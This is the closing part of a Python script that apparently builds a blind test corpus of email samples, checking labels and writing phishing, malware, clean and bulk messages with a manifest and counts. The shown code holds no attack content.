            assert not getattr(v, "defects", None), (stem, k, v.defects)


def main() -> None:
    for old in MAIL.glob(f"*/b{N}-*.eml"):
        old.unlink()
    for fn in BUILDERS:
        fn()
    stems = [e[0] for e in ENTRIES]
    assert len(stems) == len(set(stems)), "duplicate stems"
    counts: dict[str, int] = {}
    lines = []
    for stem, folder, desc, raw in ENTRIES:
        folder = REFILED.get(stem, folder)
        assert folder in ("phishing", "malware", "clean", "bulk"), (stem, folder)
        kind = stem.split("-")[1]
        assert (kind == "phish") == (folder in ("phishing", "malware")), (stem, folder)
        check(stem, raw)
        counts[folder] = counts.get(folder, 0) + 1
        (MAIL / folder).mkdir(parents=True, exist_ok=True)
        (MAIL / folder / f"{stem}.eml").write_bytes(raw)
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {desc}")
    MANIFEST.write_text("\n".join(lines) + "\n")
    attacks = counts.get("phishing", 0) + counts.get("malware", 0)
    legit = counts.get("clean", 0) + counts.get("bulk", 0)
    print(f"blind{N}: {len(ENTRIES)} messages -- " + ", ".join(f"{k}: {v}" for k, v in sorted(counts.items()))
          + f" (attacks {attacks}, legitimate {legit})")


if __name__ == "__main__":
    main()
